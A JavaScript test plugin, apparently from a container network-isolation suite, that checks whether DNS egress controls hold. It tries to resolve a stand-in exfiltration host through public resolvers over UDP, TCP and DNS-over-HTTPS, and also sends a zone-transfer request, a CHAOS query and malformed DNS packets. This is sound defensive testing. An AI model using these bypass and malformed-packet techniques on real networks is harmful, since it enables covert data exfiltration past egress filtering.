// Goes around the container's DNS, and at it.
import dns from "node:dns/promises";
import { attempts, plugin } from "./hostile.mjs";
import { Failure, get, lookup, queried, query, say } from "./net.mjs";

const tcp = (bytes) => Buffer.concat([Buffer.from([bytes.length >> 8, bytes.length & 255]), bytes]);
const q = query("exfil.example", 1);

/** Resolves at a server of the attacker's choice. */
const at = (server) => async () => {
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([server]);
  return resolver.resolve4("exfil.example");
};

export default plugin("hostile-network-dns-direct", {
  attack: () => attempts({
    granted: lookup("api.direct.example", 1),
    "udp 8.8.8.8": at("8.8.8.8"),
    "udp 198.18.0.53": at("198.18.0.53"),
    "udp v6": at("[2001:4860:4860::8888]"),
    "tcp 8.8.8.8": say({ host: "8.8.8.8", port: 53 }, tcp(q)),
    "tcp 198.18.0.53": say({ host: "198.18.0.53", port: 53 }, tcp(q)),
    "dns over https": get("https://dns.google/dns-query?dns=EjQBAAABAAAAAAAABWV4ZmlsB2V4YW1wbGUAAAEAAQ"),
    "tcp, transfer": async () => {
      const answer = await say({ host: "127.0.0.1", port: 53 }, tcp(query("direct.example", 252)), 700)();
      throw new Failure(`rcode ${answer.charCodeAt(5) & 15}`);
    },
    "class CHAOS": lookup("version.bind", 16, 3),
    "class ANY": lookup("api.direct.example", 1, 255),
    "half a query": queried(q.subarray(0, 20)),
    "no question": queried(Buffer.concat([q.subarray(0, 5), Buffer.from([0]), q.subarray(6, 12)])),
    "a pointer to itself": queried(Buffer.concat([q.subarray(0, 12), Buffer.from([0xc0, 12, 0, 1, 0, 1])])),
    "an answer": queried(Buffer.concat([q.subarray(0, 2), Buffer.from([0x81]), q.subarray(3)])),
    "60 KB": queried(Buffer.alloc(60_000, 1)),
    "still there": lookup("api.direct.example", 1),
  }),
});
